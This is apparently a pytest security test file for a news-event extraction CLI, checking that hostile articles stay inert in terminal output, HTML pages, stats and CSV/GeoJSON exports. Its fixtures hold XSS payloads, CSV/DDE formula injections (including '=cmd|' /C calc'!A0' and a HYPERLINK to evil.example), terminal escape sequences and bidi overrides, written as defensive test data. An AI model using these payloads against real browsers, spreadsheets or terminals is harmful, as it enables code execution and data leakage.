"""Hostile articles stay data: nothing they say runs in a browser, a spreadsheet or a terminal.

The fixture set is written here (escapes are visible in the source): script and event-handler
HTML, rich markup and emoji codes, ANSI, OSC and 8-bit CSI sequences, CSV formulas, bidi
overrides, NUL bytes, a 1 MB single line, deeply nested HTML and JSON, file names with markup
and escape sequences. It runs, beside two good articles, through ``extract``, ``show``
(terminal and HTML), ``stats`` and every export.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from typer.testing import CliRunner

from escalation_cli.cli import app

FIXTURES = Path(__file__).resolve().parent / "fixtures"
GOOD = FIXTURES / "articles"  # 01_rockets.txt, 02_drone.md, with expected records
KINDS = ("articles", "incidents", "quotes", "claims")
ESC, BEL = "\x1b", "\x07"

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSAFE = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{BIDI}\ud800-\udfff]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

SCRIPT_PAGE = """<!DOCTYPE html>
<html><head>
<title>Rockets hit &lt;script&gt;alert('title')&lt;/script&gt; base</title>
<meta property="og:title"
  content="Drones strike al-Tanf &lt;img src=x onerror=alert('og')&gt; &quot; onclick=&quot;x()">
<meta name="author" content="&lt;svg onload=alert('author')&gt;">
<meta property="og:site_name"
  content="=HYPERLINK(&quot;http://evil.example/&quot;,&quot;site&quot;)">
<meta property="article:published_time" content="2024-02-12">
<script>document.title = "PWNED";</script>
</head><body onload="document.title='PWNED'">
<p>Two drones struck the al-Tanf garrison in Syria on Sunday, the Pentagon said.
&lt;script&gt;document.body.setAttribute('data-pwned', '1')&lt;/script&gt;</p>
<p onclick="alert('attr')">Officials said
&lt;img src=x onerror="document.body.setAttribute('data-pwned', '2')"&gt;
no one was hurt in the attack, &#x202E;gnp.exe&#x202C; and &#27;[31mred&#27;[0m text.</p>
<p>"We will respond &lt;a href="javascript:alert(3)"&gt;here&lt;/a&gt;
&lt;iframe src=//evil.example&gt;," a US official told reporters.</p>
</body></html>
"""

TERMINAL_TEXT = (
    f"Rockets hit [bold red]HACKED[/bold red] base :warning: {ESC}]0;window title{BEL}\n"
    "February 12, 2024\n\n"
    f"{ESC}[2J{ESC}[31mTwo rockets struck Ain al-Asad air base in Anbar province on Monday"
    f"{ESC}[0m, US officials said.\n\n"
    "The attack was claimed by [link=http://evil.example]a group[/link] "
    f"{ESC}]8;;http://evil.example{ESC}\\calling itself{ESC}]8;;{ESC}\\ the Islamic Resistance "
    "in Iraq, according to a statement.\n\n"
    "\u009b31mEight-bit CSI\u009b0m, a bell\a, backspaces\b\b and a DEL\x7f stay out.\n\n"
    '"We saw [blink]nothing[/blink] \u202eelif.exe\u202c," a guard at the base said.\n'
)

FEED = [
    {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click here")',
        "published": "2024-02-13",
        "outlet": "=cmd|' /C calc'!A0",
        "author": "@SUM(1+1)*cmd|' /C calc'!A0",
        "url": "javascript:alert(1)",
        "text": (
            '=HYPERLINK("http://evil.example/","x") Two rockets struck Ain al-Asad air base in '
            "Anbar province on Tuesday, officials said.\n\n"
            "+1+1 Three drones targeted the Harir base in Erbil on Monday, the Pentagon said.\n\n"
            "-2+3+cmd|' /C calc'!A0 said the statement.\n\n"
            "\t=1+1 and @SUM(A1) are not formulas here."
        ),
    },
    {
        "title": "Escaped \u001b[31mcontrols\u0007 \u202etitle",
        "published": "2024-02-14",
        "author": "\u009b31m Staff\u0000",
        "text": (
            "NUL \u0000 here. Drones \u001b]0;x\u0007 attacked al-Tanf on Monday, "
            "\u202eofficials\u202c said.\r\nA lone surrogate \ud800 is dropped."
        ),
    },
]


def write_corpus(directory: Path) -> None:
    """The hostile fixture set, two good articles among it."""
    for good in GOOD.iterdir():
        shutil.copy(good, directory / good.name)
    (directory / "00_nul_early.txt").write_bytes(b"Title\n\nText\x00\x00 and more.")
    (directory / "01a_script_page.html").write_text(SCRIPT_PAGE, encoding="utf-8")
    (directory / "01b_terminal.txt").write_text(TERMINAL_TEXT, encoding="utf-8")
    deep = "[" * 3000 + "]" * 3000
    lines = [json.dumps(item) for item in FEED] + ['{"text": ' + deep + "}"]
    (directory / "01c_feed.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    filler = "The council met on Monday to discuss the budget for the year. " * 150
    (directory / "01d_nul_late.txt").write_bytes(
        f"Council news\n\n{filler}\x00Rockets struck al-Tanf on Monday, officials said.\n".encode()
    )
    junk = f'<b onmouseover="alert(1)">[bold]x[/bold]</b> =1+1 {ESC}[31m \u202e :fire: '
    line = junk * (1_000_000 // len(junk))
    (directory / "01e_long_line.txt").write_text(f"One long line\n\n{line}\n", encoding="utf-8")
    nested = "<div><span>" * 20_000
    closed = "</span></div>" * 20_000
    (directory / "01f_deep.html").write_text(
        "<html><head><title>Deep page</title></head><body>"
        f"{nested}<p>Two drones attacked the Harir base in Erbil on Sunday, Kurdish officials "
        f"said.</p>{closed}</body></html>",
        encoding="utf-8",
    )
    (directory / "01g_[red]rich[-red] name.txt").write_text(
        "A plain title\n\nRockets hit al-Tanf on Monday, officials said.\n", encoding="utf-8"
    )
    (directory / f"01h_esc{ESC}]0;x{BEL}.txt").write_text("", encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    corpus = tmp_path_factory.mktemp("corpus")
    write_corpus(corpus)
    out = tmp_path_factory.mktemp("out")
    result = CliRunner().invoke(app, ["extract", str(corpus), "--out", str(out)])
    return corpus, out, result


_GAZETTEERS: dict = {}


@pytest.fixture
def quick_show(monkeypatch):
    """``show`` builds its gazetteer matcher on every call (about 3 s): build it once here."""
    from escalation_cli import nlp

    build = nlp.build_nlp

    def build_once(*args, **kwargs):
        if args or kwargs.get("nlp") is None:
            return build(*args, **kwargs)
        key = tuple(kwargs.get("patterns_dirs") or ())
        if key not in _GAZETTEERS:
            _GAZETTEERS[key] = build(*args, **kwargs)
        return _GAZETTEERS[key]

    monkeypatch.setattr(nlp, "build_nlp", build_once)


def invoke(*args: str):
    return CliRunner().invoke(app, list(args))


def rows(out: Path, kind: str) -> list[dict]:
    return [json.loads(line) for line in (out / f"{kind}.jsonl").read_text().splitlines()]


def strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def assert_printable(text: str, what: str) -> None:
    """For people: no control character but newline (and tab), no bidi override."""
    found = UNSAFE.findall(text.replace("\t", ""))
    assert not found, f"{what}: {found!r}"


class Page(HTMLParser):
    """Every element, attribute and text node of a page."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.texts: list[str] = []
        self.feed(markup)
        self.close()
        self.text = " ".join(" ".join(self.texts).split())

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)

    def handle_data(self, data):
        self.texts.append(data)


# What the page is made of: displaCy's span view and the record tables, nothing else.
PAGE_TAGS = {"html", "head", "meta", "title", "body", "figure", "h2", "div", "span"}
PAGE_TAGS |= {"table", "tbody", "tr", "th", "td", "ul", "li", "b", "i"}  # tbody: the browser
PAGE_ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "style", "class"}


def assert_page_is_inert(markup: str) -> Page:
    page = Page(markup)
    assert page.tags <= PAGE_TAGS, page.tags - PAGE_TAGS
    names = {name for name, _ in page.attributes}
    assert names <= PAGE_ATTRIBUTES, names - PAGE_ATTRIBUTES
    for name, value in page.attributes:
        assert "javascript:" not in value and "alert(" not in value, (name, value)
    assert_printable(page.text, "page text")
    return page


def test_hostile_input_stays_data_in_every_output(hostile, tmp_path, quick_show):
    corpus, out, result = hostile

    # ---- extract: one clean line per bad input, the rest written ------------------------------
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert_printable(result.stderr, "extract stderr")
    lines = result.stderr.splitlines()
    errors = [line for line in lines if line.startswith("Error: ")]
    assert len(errors) == 3, lines
    assert any("00_nul_early.txt: binary file" in line for line in errors)
    assert any("01c_feed.jsonl:3: JSON nested too deeply" in line for line in errors)
    assert any("01h_esc]0;x.txt: empty file" in line for line in errors)
    assert any(line.startswith("Warning: ") and "01e_long_line.txt" in line for line in lines)
    assert lines[-1].startswith("processed 10, unchanged 0, failed 3")

    records = {kind: rows(out, kind) for kind in KINDS}
    for kind, items in records.items():
        for record in items:
            for value in strings(record):
                assert not UNSAFE.search(value), (kind, value)
    articles = {Path(a["source"]).name: a for a in records["articles"]}
    assert len(articles) == 10

    # offsets were taken on the clean text
    texts = {a["article_id"]: a["text"] for a in records["articles"]}
    for incident in records["incidents"]:
        for evidence in incident["evidence"]:
            text = texts[incident["article_id"]]
            assert text[evidence["start"] : evidence["end"]] == evidence["text"]
    for kind, field in (("quotes", "text"), ("claims", "content")):
        for record in records[kind]:
            # (a quote's text leaves out the punctuation its offsets cover)
            assert record[field] in texts[record["article_id"]][record["start"] : record["end"]]

    # the text is kept, only the control characters went
    terminal = articles["01b_terminal.txt"]
    assert (
        terminal["title"]
        == "Rockets hit [bold red]HACKED[/bold red] base :warning: ]0;window title"
    )
    assert "[2J[31mTwo rockets struck Ain al-Asad" in terminal["text"]
    page = articles["01a_script_page.html"]
    assert page["title"].startswith("Drones strike al-Tanf <img src=x onerror=alert('og')>")
    assert "no one was hurt in the attack, gnp.exe and [31mred[0m text." in page["text"]
    late = articles["01d_nul_late.txt"]
    assert late["text"].endswith("for the year. Rockets struck al-Tanf on Monday, officials said.")
    assert len(articles["01e_long_line.txt"]["text"]) == 200_000

    # good records around the hostile ones: the good articles give exactly their expected records
    good_ids = {articles[name]["article_id"] for name in ("01_rockets.txt", "02_drone.md")}
    for kind in KINDS:
        expected = (FIXTURES / "expected" / f"{kind}.jsonl").read_text(encoding="utf-8")
        got = (out / f"{kind}.jsonl").read_text(encoding="utf-8").replace(str(corpus) + "/", "")
        good = [line for line in got.splitlines() if json.loads(line)["article_id"] in good_ids]
        assert good == expected.splitlines(), kind
    # and the hostile ones still report their events
    by_article = {a["article_id"]: n for n, a in articles.items()}
    reported = {by_article[i["article_id"]] for i in records["incidents"]}
    for name in ("01a_script_page.html", "01b_terminal.txt", "01c_feed.jsonl:1", "01f_deep.html"):
        assert name in reported, name
    assert any("Harir" in str(i["base"]) for i in records["incidents"])

    # ---- show, in the terminal and as HTML -----------------------------------------------------
    for name, article in articles.items():
        shown = invoke("show", article["article_id"], "--out", str(out))
        assert shown.exit_code == 0, shown.output
        assert_printable(shown.stdout, f"show {name}")
        page_file = tmp_path / f"{article['article_id']}.html"
        written = invoke("show", article["article_id"], "--out", str(out), "--html", str(page_file))
        assert written.exit_code == 0, written.output
        markup = page_file.read_text(encoding="utf-8")
        page = assert_page_is_inert(markup)
        assert " ".join(article["title"].split()) in page.text  # shown as text, as written
    shown = invoke("show", "01b_terminal", "--out", str(out)).stdout
    assert "[bold red]HACKED[/bold red] base :warning:" in shown  # no markup, no emoji code
    assert "[link=http://evil.example]a group[/link]" in " ".join(shown.split())
    shown = invoke("show", "01g_", "--out", str(out)).stdout
    assert "01g_[red]rich[-red] name.txt" in shown

    # ---- stats -------------------------------------------------------------------------------
    for args in ([], ["--records", "--by", "target"], ["--by", "perpetrator"], ["--by", "speaker"]):
        summary = invoke("stats", str(out), *args)
        assert summary.exit_code == 0, summary.output
        assert_printable(summary.stdout + summary.stderr, f"stats {args}")
    data = json.loads(invoke("stats", str(out), "--records", "--json").stdout)
    assert data["incidents"]["total"] == len(records["incidents"])

    # ---- exports: no cell a spreadsheet would evaluate ----------------------------------------
    exported = tmp_path / "csv"
    assert invoke("export", str(out), "--format", "csv", "--out", str(exported)).exit_code == 0
    acled = tmp_path / "acled.csv"
    assert invoke("export", str(out), "--format", "acled", "--out", str(acled)).exit_code == 0
    tables = {path.name: path for path in exported.glob("*.csv")} | {"acled.csv": acled}
    neutralised = []
    for name, path in tables.items():
        for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))):
            for column, cell in row.items():
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only a number may start with "-" (or "+")
                if cell[:1] == "'" and cell[1:2] in "=+-@\t\r":
                    neutralised.append((name, column, cell))
    columns = {(name, column) for name, column, _ in neutralised}
    for expected in (
        ("articles.csv", "title"),
        ("articles.csv", "outlet"),
        ("acled.csv", "source"),
    ):
        assert expected in columns, neutralised
    assert ("'=cmd|' /C calc'!A0") in {cell for *_, cell in neutralised}
    # numbers stay numbers: every latitude and longitude is a float
    for row in csv.DictReader(io.StringIO(acled.read_text(encoding="utf-8"))):
        if row["latitude"]:
            float(row["latitude"]), float(row["longitude"])
    raw = tmp_path / "raw"
    assert (
        invoke("export", str(out), "--format", "csv", "--out", str(raw), "--raw-cells").exit_code
        == 0
    )
    titles = [r["title"] for r in csv.DictReader(io.StringIO((raw / "articles.csv").read_text()))]
    assert '=HYPERLINK("http://evil.example/?"&A1,"Click here")' in titles
    geojson = invoke("export", str(out), "--format", "geojson")
    assert geojson.exit_code == 0
    for feature in json.loads(geojson.stdout)["features"]:
        for value in strings(feature["properties"]):
            assert not UNSAFE.search(value), value


def test_raw_cells_is_only_for_csv_exports(hostile):
    _, out, _ = hostile
    result = invoke("export", str(out), "--format", "geojson", "--raw-cells")
    assert result.exit_code == 2
    assert "--raw-cells" in result.stderr


def test_show_in_a_colour_terminal_sends_only_its_own_styling(hostile):
    """With colours on, the only escape sequences are rich's own colours (SGR)."""
    _, out, _ = hostile
    env = {**os.environ, "FORCE_COLOR": "1", "COLUMNS": "120", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    for key in ("01b_terminal", "01a_script"):
        command = [sys.executable, "-m", "escalation_cli", "show", key, "--out", str(out)]
        shown = subprocess.run(command, capture_output=True, text=True, env=env, timeout=300)
        assert shown.returncode == 0, shown.stderr
        assert "\x1b[" in shown.stdout  # colours are on
        without_colours = re.sub(r"\x1b\[[0-9;]*m", "", shown.stdout)
        assert_printable(without_colours, key)
        if key == "01b_terminal":
            assert "[bold red]HACKED[/bold red]" in without_colours


def test_records_from_elsewhere_are_shown_as_data(tmp_path, quick_show):
    """Records not written by this version (hand-made, older, another tool) with raw control
    characters and markup: show, stats and export still show them as data."""
    out = tmp_path / "out"
    out.mkdir()
    text = (
        f"Title [bold]x[/bold] {ESC}]0;pwned{BEL}\n\nRockets hit al-Tanf {ESC}[2J\u202eon Monday."
    )
    article = {
        "article_id": "a1b2c3d4e5f60718",
        "source": f"evil{ESC}[31m.txt",
        "title": f"Title [bold]x[/bold] {ESC}]0;pwned{BEL} <script>alert(1)</script>",
        "published": "2024-02-12",
        "outlet": "=cmd|' /C calc'!A0",
        "words": 9,
        "entities": [],
        "text": text,
    }
    start = text.index("Rockets")
    incident = {
        "incident_id": "0123456789abcdef",
        "article_id": article["article_id"],
        "date": "2024-02-12",
        "weapon": "rocket",
        "base": f"al-Tanf [red]{ESC}[5m",
        "perpetrator": "<img src=x onerror=alert(1)> [bold]group[/bold]",
        "target": "@SUM(1+1)",
        "latitude": -33.5,
        "longitude": -38.6,
        "killed": None,
        "evidence": [{"text": text[start:], "start": start, "end": len(text)}],
    }
    quote = {
        "quote_id": "q1",
        "article_id": article["article_id"],
        "text": f"We [blink]saw[/blink] {ESC}]8;;http://x{ESC}\\it",
        "start": start,
        "end": start + 7,
        "speaker": "[red]Mr X[/red]",
        "cue": "said",
    }
    lines = {"articles": article, "incidents": incident, "quotes": quote}
    for kind in KINDS:
        record = lines.get(kind)
        (out / f"{kind}.jsonl").write_text(json.dumps(record) + "\n" if record else "")

    shown = invoke("show", "a1b2", "--out", str(out))
    assert shown.exit_code == 0, shown.output
    assert_printable(shown.stdout + shown.stderr, "show")
    flat = " ".join(shown.stdout.split())
    assert "Title [bold]x[/bold]" in flat and "[red]Mr X[/red]" in flat
    page_file = tmp_path / "page.html"
    assert invoke("show", "a1b2", "--out", str(out), "--html", str(page_file)).exit_code == 0
    page = assert_page_is_inert(page_file.read_text(encoding="utf-8"))
    assert "<img src=x onerror=alert(1)> [bold]group[/bold]" in page.text
    assert "<script>alert(1)</script>" in page.text

    for args in ([], ["--by", "base"], ["--by", "perpetrator"], ["--by", "target"]):
        summary = invoke("stats", str(out), *args)
        assert summary.exit_code == 0, summary.output
        assert_printable(summary.stdout, f"stats {args}")
    assert "[red]" in invoke("stats", str(out), "--by", "base").stdout

    acled = invoke("export", str(out), "--format", "acled")
    row = next(csv.DictReader(io.StringIO(acled.stdout)))
    # actor columns hold actors (issue 13), so the scraped target phrase is not among them
    assert row["source"] == "'=cmd|' /C calc'!A0"
    assert not row["actor2"].startswith(("=", "+", "-", "@"))
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-38.6")
    table = tmp_path / "tables"
    assert invoke("export", str(out), "--format", "csv", "--out", str(table)).exit_code == 0
    incident = next(csv.DictReader(io.StringIO((table / "incidents.csv").read_text())))
    assert incident["target"] == "'@SUM(1+1)"

    missing = invoke("show", "zzzz", "--out", str(out / f"no{ESC}]0;x{BEL}dir"))
    assert missing.exit_code == 1
    assert_printable(missing.stderr, "error")


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine (.ci/run installs it)")
def test_hostile_page_is_inert_in_a_headless_browser(hostile, tmp_path, quick_show):
    """The browser's own DOM after loading (and running whatever would run) holds no element
    or attribute from the article, and the article's markup is there as text."""
    _, out, _ = hostile
    for key, visible in (
        ("01a_script", "Drones strike al-Tanf <img src=x onerror=alert('og')>"),
        ("01b_terminal", "[bold red]HACKED[/bold red]"),
        ("01e_long", 'onmouseover="alert(1)">[bold]x[/bold]'),  # the text, token by token
    ):
        page_file = tmp_path / f"{key}.html"
        result = invoke("show", key, "--out", str(out), "--html", str(page_file))
        assert result.exit_code == 0, result.output
        command = [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--virtual-time-budget=2000",
            "--dump-dom",
            page_file.as_uri(),
        ]
        dom = subprocess.run(command, capture_output=True, text=True, timeout=180).stdout
        assert "</html>" in dom, dom[-500:]
        page = assert_page_is_inert(dom)
        # the article's scripts would have set a data-pwned attribute or the document title
        assert "data-pwned" not in {name for name, _ in page.attributes}
        assert "<title>displaCy</title>" in dom
        assert visible in page.text
